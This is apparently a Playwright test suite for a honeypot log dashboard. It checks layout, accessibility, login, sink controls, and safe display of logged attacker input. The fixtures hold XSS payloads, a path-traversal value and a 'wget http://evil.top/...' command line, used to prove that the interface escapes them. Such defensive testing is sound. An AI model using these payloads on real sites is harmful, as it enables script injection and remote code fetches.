// Looks at every page as people do: with a real browser, at three widths, in light and dark, by keyboard, and without JavaScript.
// Arguments: address of the daemon, directory for screenshots, path of Chromium, JSON of what there is to see. Fails with what is wrong.
import assert from "node:assert/strict";
import { appendFileSync, readFileSync } from "node:fs";
import { createRequire } from "node:module";
import { chromium } from "playwright-core";

const [base, screenshots, executablePath, seen] = process.argv.slice(2);
// `stranger`: the daemon as somebody finds it who is not known to it; `key` lets them in. `followed`: a log that the daemon follows.
const { session, indicator, stranger, key, followed } = JSON.parse(seen);
const AXE = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");

const ARGS = [
  "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
  "--disable-component-update", "--disable-sync",
];
const PAGES = {
  overview: "/",
  search: "/search?query=eventid%3A*",
  "search-help": "/search",
  "search-wrong": "/search?query=usrname%3Aroot",
  session: `/sessions/${encodeURIComponent(session)}`,
  hostile: "/sessions/c0ffee123456",
  indicators: "/indicators",
  indicator: `/indicators/${encodeURIComponent(indicator)}`,
  sinks: "/sinks",
  sink: "/sinks/archive",
  "sink-dead": "/sinks/siem",
  reports: "/reports",
  report: "/reports?kind=daily&period=last",
  audit: "/audit",
  missing: "/sessions/nosuch",
};
const WIDTHS = [360, 768, 1440];

const browser = await chromium.launch({ executablePath, args: ARGS });

/** A line that a honeypot logs now. */
const log = (event) => appendFileSync(followed, `${JSON.stringify({ sensor: "hive", src_ip: "203.0.113.99", timestamp: new Date().toISOString(), ...event })}\n`);

/** Through the form, with the key. */
const logIn = async (page, to = "/") => {
  await page.goto(stranger + to);
  await page.fill("#key", key);
  await page.keyboard.press("Enter");
  await page.waitForURL(stranger + to);
};

/** A page whose complaints are collected. */
const open = async (options) => {
  const context = await browser.newContext({ viewport: { width: 1440, height: 900 }, ...options });
  const page = await context.newPage();
  const complaints = [];
  page.on("console", (message) => {
    // A page that says 404 or 400 is loaded with that status, which Chromium calls an error.
    const expected = /^Failed to load resource: the server responded with a status of 40[014]/.test(message.text());
    if (message.type() === "error" && !expected) complaints.push(message.text());
  });
  page.on("pageerror", (error) => complaints.push(String(error)));
  page.on("dialog", async (dialog) => {
    complaints.push(`a dialog: ${dialog.message()}`);
    await dialog.dismiss();
  });
  page.on("requestfailed", (request) => complaints.push(`${request.url()}: ${request.failure()?.errorText}`));
  page.on("request", (request) => {
    if (!request.url().startsWith(base) && !request.url().startsWith(stranger) && !request.url().startsWith("data:")) complaints.push(`asked elsewhere: ${request.url()}`);
  });
  if (options?.javaScriptEnabled !== false) {
    await page.addInitScript(() => {
      window.violations = [];
      document.addEventListener("securitypolicyviolation", (event) => window.violations.push(`${event.violatedDirective} ${event.blockedURI}`));
    });
  }
  return { context, page, complaints };
};

const checks = {
  async "every page is whole at every width, in light and dark"() {
    for (const colorScheme of ["light", "dark"]) {
      for (const width of WIDTHS) {
        const { context, page, complaints } = await open({ colorScheme, viewport: { width, height: width < 500 ? 780 : 900 } });
        for (const [name, path] of Object.entries(PAGES)) {
          await page.goto(base + path, { waitUntil: "load" });
          const where = `${name} at ${width} in ${colorScheme}`;
          const { scroll, violations, wide } = await page.evaluate(() => ({
            scroll: document.documentElement.scrollWidth,
            violations: window.violations,
            wide: [...document.querySelectorAll("body *")].filter((one) => one.getBoundingClientRect().right > innerWidth + 1 && !one.closest(".scroll") && !one.closest(".unseen")).map((one) => `${one.tagName}.${one.className}`).slice(0, 5),
          }));
          await page.screenshot({ path: `${screenshots}/${name}-${width}-${colorScheme}.png`, fullPage: name !== "hostile" });
          assert.ok(scroll <= width, `${where} is ${scroll} wide: ${wide}`);
          assert.deepEqual(violations, [], where);
          assert.deepEqual(complaints, [], where);
        }
        await context.close();
      }
    }
  },

  async "strangers find the form that logs in"() {
    for (const width of WIDTHS) {
      const { context, page, complaints } = await open({ viewport: { width, height: 800 }, colorScheme: width === 768 ? "dark" : "light" });
      await page.goto(`${stranger}/audit?kind=request`);
      assert.equal(new URL(page.url()).pathname, "/login");
      assert.equal(await page.evaluate(() => document.activeElement.id), "key");
      await page.keyboard.type("no such key <b>");
      await page.keyboard.press("Enter");
      await page.getByRole("alert").waitFor();
      assert.equal(await page.locator("input[name=next]").inputValue(), "/audit?kind=request");
      assert.equal(await page.inputValue("#key"), "");
      assert.ok((await page.evaluate(() => document.documentElement.scrollWidth)) <= width);
      assert.deepEqual(await page.evaluate(() => window.violations), []);
      await page.screenshot({ path: `${screenshots}/login-${width}.png` });
      assert.deepEqual(complaints, []);
      await context.close();
    }
  },

  async "text has contrast enough"() {
    for (const colorScheme of ["light", "dark"]) {
      const { context, page } = await open({ colorScheme });
      for (const path of ["/", "/audit", PAGES.session]) {
        await page.goto(base + path);
        const poor = await page.evaluate(() => {
          const canvas = document.createElement("canvas").getContext("2d", { willReadFrequently: true });
          const rgb = (colour) => {
            canvas.clearRect(0, 0, 1, 1);
            canvas.fillStyle = colour;
            canvas.fillRect(0, 0, 1, 1);
            return canvas.getImageData(0, 0, 1, 1).data;
          };
          const light = (colour) => {
            const [r, g, b] = [...colour].slice(0, 3).map((part) => (part / 255 <= 0.04045 ? part / 255 / 12.92 : ((part / 255 + 0.055) / 1.055) ** 2.4));
            return 0.2126 * r + 0.7152 * g + 0.0722 * b;
          };
          const behind = (element) => {
            for (let one = element; one; one = one.parentElement) {
              const colour = rgb(getComputedStyle(one).backgroundColor);
              if (colour[3] === 255) return colour;
            }
            return rgb("canvas");
          };
          const texts = [...document.querySelectorAll("main *, header *, footer")].filter((one) =>
            [...one.childNodes].some((child) => child.nodeType === Node.TEXT_NODE && child.data.trim()) && !one.closest("svg, .skip, .unseen"));
          return texts.flatMap((one) => {
            const [front, back] = [light(rgb(getComputedStyle(one).color)), light(behind(one))];
            const contrast = (Math.max(front, back) + 0.05) / (Math.min(front, back) + 0.05);
            return contrast < 4.5 ? [`${one.tagName}.${one.className} ${contrast.toFixed(2)} ${one.textContent.slice(0, 20)}`] : [];
          });
        });
        assert.deepEqual([...new Set(poor)], [], `${path} in ${colorScheme}`);
      }
      await context.close();
    }
  },

  async "everything has a name and pages have an outline"() {
    const { context, page } = await open();
    for (const path of Object.values(PAGES)) {
      await page.goto(base + path);
      const faults = await page.evaluate(() => {
        const faults = [];
        const name = (one) => one.getAttribute("aria-label") || one.labels?.[0]?.textContent || one.textContent;
        for (const one of document.querySelectorAll("a, button, input:not([type=hidden]), select, summary")) {
          if (!name(one)?.trim()) faults.push(`no name: ${one.outerHTML.slice(0, 100)}`);
        }
        const ids = [...document.querySelectorAll("[id]")].map((one) => one.id);
        if (new Set(ids).size !== ids.length) faults.push(`ids twice: ${ids}`);
        if (document.querySelectorAll("h1").length !== 1) faults.push("not one h1");
        for (const image of document.querySelectorAll("svg:not([aria-hidden])")) if (!image.getAttribute("aria-label")) faults.push("a nameless image");
        for (const described of document.querySelectorAll("[aria-describedby]")) {
          if (!document.getElementById(described.getAttribute("aria-describedby"))) faults.push("described by nothing");
        }
        return faults;
      });
      assert.deepEqual(faults, [], path);
    }
    await context.close();
  },

  async "the keyboard reaches what matters, in order"() {
    const { context, page } = await open();
    await page.goto(`${base}/`);
    const reached = [];
    for (let press = 0; press < 14; press += 1) {
      await page.keyboard.press("Tab");
      reached.push(await page.evaluate(() => document.activeElement.id || document.activeElement.textContent.trim()));
    }
    const order = ["Skip to the content", "Honeyguide", "Overview", "Search", "Indicators", "Sinks", "Reports", "Audit"];
    assert.deepEqual(reached.slice(0, order.length), order);
    assert.ok(reached.includes("query"), String(reached));
    await page.goto(`${base}/`);
    await page.keyboard.press("Tab");
    await page.keyboard.press("Enter");
    assert.equal(await page.evaluate(() => document.activeElement.id), "main", "the link skips");
    await page.goto(`${base}/sinks`);
    let found = false;
    await page.keyboard.press("Tab");
    await page.keyboard.press("Tab");
    const outline = await page.evaluate(() => getComputedStyle(document.activeElement).outlineStyle);
    assert.notEqual(outline, "none", "where the keyboard is can be seen");
    for (let press = 0; press < 20 && !found; press += 1) {
      await page.keyboard.press("Tab");
      found = await page.evaluate(() => document.activeElement.matches("button[aria-label='Pause archive']"));
    }
    assert.ok(found, "the button that pauses");
    await context.close();
  },

  async "a search finds, and a session reads like a transcript"() {
    const { context, page, complaints } = await open();
    await page.goto(`${base}/`);
    await page.fill("#query", `session:"${session}"`);
    await page.keyboard.press("Enter");
    await page.waitForURL(/\/search\?query=/);
    assert.equal(await page.inputValue("#query"), `session:"${session}"`);
    await page.locator(".events a[href^='/sessions/']").first().click();
    await page.waitForURL(/\/sessions\//);
    const steps = await page.locator(".transcript li").allInnerTexts();
    assert.ok(steps.length >= 2 && steps[0].includes("connect"), steps.join("\n"));
    assert.deepEqual(complaints, []);
    await context.close();
  },

  async "a sink is paused and goes on"() {
    const { context, page, complaints } = await open();
    await page.goto(`${base}/sinks`);
    await page.getByRole("button", { name: "Pause archive" }).click();
    await page.getByText("It is paused").waitFor();
    await page.goto(`${base}/`);
    await page.getByText("Sink archive is paused").waitFor();
    await page.screenshot({ path: `${screenshots}/overview-alarm.png`, fullPage: true });
    await page.goto(`${base}/sinks/archive`);
    await page.getByRole("button", { name: "Resume archive" }).click();
    await page.getByText("It goes on").waitFor();
    await page.goto(`${base}/audit`);
    await page.getByText("order: pause").first().waitFor();
    await page.getByText("paused: false → true").first().waitFor();
    assert.deepEqual(complaints, []);
    await context.close();
  },

  async "somebody with a key logs in, sees an event come, reads its session, gives orders, and logs out"() {
    const { context, page, complaints } = await open();
    await logIn(page);
    const cookie = (await context.cookies()).find(({ name }) => name.startsWith("honeyguide_session_"));
    assert.ok(cookie.httpOnly && cookie.sameSite === "Strict", JSON.stringify(cookie));
    await page.getByText("Live: new events appear on top.").waitFor();
    const username = "<img src=x onerror=alert(1)>\u202eroot";
    log({ eventid: "cowrie.session.connect", session: "11febeef" });
    log({ eventid: "cowrie.login.success", session: "11febeef", username, password: "\"><script>alert(1)</script>" });
    log({ eventid: "cowrie.command.input", session: "11febeef", input: "wget http://evil.top/<b>x</b>; echo done" });
    const row = page.locator("#live-rows tr").filter({ hasText: "<img src=x onerror=alert(1)>\\u{202e}root" });
    await row.first().waitFor();
    assert.equal(await row.locator("img, script, b").count(), 0);
    await page.locator("#live-rows tr").filter({ hasText: "wget http://evil.top/<b>x</b>" }).first().waitFor();
    await page.screenshot({ path: `${screenshots}/overview-arrived.png` });
    assert.deepEqual(await page.evaluate(() => window.violations), []);

    // Whoever keeps the page open sees what happens to the state, without loading it again.
    const other = await context.newPage();
    await other.goto(`${stranger}/sinks`);
    await other.getByRole("button", { name: "Pause archive" }).click();
    await other.getByText("It is paused").waitFor();
    await page.getByText("Sink archive is paused").waitFor();
    assert.match(await page.title(), /^\(3\) Overview/);
    await other.getByRole("button", { name: "Resume archive" }).click();
    await other.getByText("It goes on").waitFor();
    await other.close();
    await page.getByText("Sink archive is paused").waitFor({ state: "detached" });

    await page.fill("#query", `src_ip:203.0.113.99 since:1h`);
    await page.keyboard.press("Enter");
    await page.waitForURL(/\/search\?query=/);
    assert.equal(await page.locator(".events tbody tr").count(), 3);
    await page.locator(".events a[href='/sessions/11febeef']").first().click();
    await page.waitForURL(/\/sessions\/11febeef/);
    const steps = (await page.locator(".transcript li").allInnerTexts()).join("\n");
    for (const part of ["LOGGED IN", "<img src=x onerror=alert(1)>\\u{202e}root", "wget"]) assert.ok(steps.includes(part), `${part} in ${steps}`);
    assert.equal(await page.locator("main img, main script, main b").count(), 0);
    await page.screenshot({ path: `${screenshots}/session-arrived.png` });

    await page.goto(`${stranger}/sinks`);
    await page.getByRole("button", { name: "Pause archive" }).click();
    await page.waitForURL(`${stranger}/sinks/archive`);
    await page.getByText("It is paused").waitFor();
    await page.screenshot({ path: `${screenshots}/sink-paused.png` });
    await page.reload();
    assert.equal(await page.getByText("It is paused").count(), 0, "told once");
    await page.getByRole("button", { name: "Resume archive" }).click();
    await page.getByText("It goes on").waitFor();

    await page.goto(`${stranger}/`);
    await page.getByText("Sink siem has 1 dead letter").click();
    await page.waitForURL(`${stranger}/sinks/siem`);
    await page.getByRole("button", { name: "Deliver them again" }).click();
    await page.getByText("All 1 arrived.").waitFor();
    await page.getByText("refused nothing for good").waitFor();
    await page.screenshot({ path: `${screenshots}/sink-delivered.png` });

    await page.goto(`${stranger}/`);
    assert.equal(await page.getByText("dead letter").filter({ hasText: "Sink siem" }).count(), 0, "it is no more");
    await page.goto(`${stranger}/audit?kind=request`);
    const retried = page.locator("tr").filter({ hasText: "/sinks/siem/retry" });
    assert.match(await retried.innerText(), /laptop[^]*dead letters: 1 → 0/);
    assert.equal(await page.getByText(key).count(), 0);
    for (const [width, colorScheme] of [[360, "dark"], [768, "light"], [1440, "dark"]]) {
      await page.setViewportSize({ width, height: 900 });
      await page.emulateMedia({ colorScheme });
      assert.ok((await page.evaluate(() => document.documentElement.scrollWidth)) <= width, `the audit at ${width}`);
      await page.screenshot({ path: `${screenshots}/audit-changes-${width}.png`, fullPage: true });
    }
    await page.getByRole("button", { name: "Log out" }).click();
    await page.waitForURL(`${stranger}/login`);
    await page.goto(`${stranger}/audit`);
    assert.equal(new URL(page.url()).pathname, "/login", "the session has ended");
    assert.deepEqual(complaints, []);
    await context.close();
  },

  async "nothing serious keeps anybody from using a page"() {
    for (const [width, colorScheme] of [[1440, "light"], [360, "dark"]]) {
      const { context, page } = await open({ colorScheme, viewport: { width, height: 900 } });
      const found = [];
      for (const [name, path] of Object.entries({ ...PAGES, login: `${stranger}/login` })) {
        await page.goto(path.startsWith("http") ? path : base + path);
        await page.evaluate(`${AXE}; undefined`);
        const { violations } = await page.evaluate(() => axe.run(document, { resultTypes: ["violations"] }));
        for (const { id, impact, nodes } of violations) {
          if (["serious", "critical"].includes(impact)) found.push(`${name} at ${width}: ${id} (${impact}): ${nodes.slice(0, 3).map(({ html }) => html.slice(0, 120))}`);
        }
      }
      assert.deepEqual(found, []);
      await context.close();
    }
  },

  async "live events appear as text"() {
    const { context, page, complaints } = await open();
    const subscribed = Promise.withResolvers?.() ?? (() => {
      const one = {};
      one.promise = new Promise((resolve) => (one.resolve = resolve));
      return one;
    })();
    let socket;
    await page.routeWebSocket(/\/api\/v1\/live/, (route) => {
      socket = route;
      route.onMessage((message) => subscribed.resolve(JSON.parse(message)));
    });
    await page.route(`${base}/`, async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace(/ data-stream="[^"]*"/, "").replace('id="live"', 'id="live" data-stream="/api/v1/live"');
      await route.fulfill({ response, body });
    });
    await page.goto(`${base}/`);
    assert.equal((await subscribed.promise).type, "subscribe");
    await page.getByText("Live: new events appear on top.").waitFor();
    const line = JSON.stringify({ eventid: "cowrie.login.failed", username: "<img src=x onerror=alert(1)>\u202e", password: "\u001b[31m", session: "../<b>", src_ip: "203.0.113.7", sensor: "hive" });
    socket.send(JSON.stringify({ type: "event", seq: 1, time: "2026-03-22T00:00:00.000000Z", line }));
    const row = page.locator("#live-rows tr").first();
    await row.getByText("<img src=x onerror=alert(1)>\\u{202e} / \\u{1b}[31m").waitFor();
    assert.equal(await row.locator("img, b").count(), 0);
    assert.equal(await row.locator("a").getAttribute("href"), "/sessions/..%2F%3Cb%3E");
    for (let seq = 2; seq < 100; seq += 1) socket.send(JSON.stringify({ type: "event", seq, time: "2026", line: "not JSON <b>" }));
    socket.send(JSON.stringify({ type: "dropped", count: 7, from: 100, to: 106 }));
    await page.getByText("7 events came too fast").waitFor();
    assert.equal(await page.locator("#live-rows tr").count(), 20, "so many rows and no more");
    await page.getByRole("button", { name: "Pause" }).click();
    await page.getByText("Paused.").waitFor();
    await page.screenshot({ path: `${screenshots}/overview-live.png` });
    assert.deepEqual(complaints, []);
    await context.close();
  },

  async "without JavaScript everything but liveness is there"() {
    const { context, page } = await open({ javaScriptEnabled: false });
    await page.goto(`${base}/`);
    assert.ok((await page.locator("#live-rows tr").count()) > 0);
    await page.getByText("Load it again every 10 s").click();
    assert.equal(await page.locator("meta[http-equiv=refresh]").getAttribute("content"), "10");
    await page.goto(`${base}/search`);
    await page.fill("#query", "eventid:cowrie.session.connect");
    await page.getByRole("button", { name: "Search" }).click();
    assert.ok((await page.locator(".events tbody tr").count()) > 0);
    await page.goto(`${base}/sinks`);
    await page.getByRole("button", { name: "Pause archive" }).click();
    await page.getByRole("button", { name: "Resume archive" }).click();
    await page.getByText("It goes on").waitFor();
    await page.getByRole("button", { name: "Test" }).click();
    await page.getByText("would take deliveries").waitFor();
    await page.goto(`${base}/indicators`);
    await page.locator("main table a").first().click();
    await page.waitForURL(/\/indicators\/./);
    await page.goto(`${base}/reports?kind=daily&period=last`);
    assert.ok((await page.locator("main svg").count()) > 0, "charts are the server's");
    await page.goto(`${base}/audit`);
    assert.ok((await page.locator(".events tbody tr").count()) > 0);
    await context.close();
    const other = await open({ javaScriptEnabled: false });
    await logIn(other.page, "/sinks");
    await other.page.getByRole("button", { name: "Log out" }).click();
    await other.page.waitForURL(`${stranger}/login`);
    await other.context.close();
  },
};

const failed = [];
for (const [name, check] of Object.entries(checks)) {
  try {
    await check();
    console.log(`ok: ${name}`);
  } catch (error) {
    failed.push(name);
    console.error(`FAILED: ${name}: ${error.stack}`);
  }
}
await browser.close();
process.exit(failed.length > 0 ? 1 : 0);
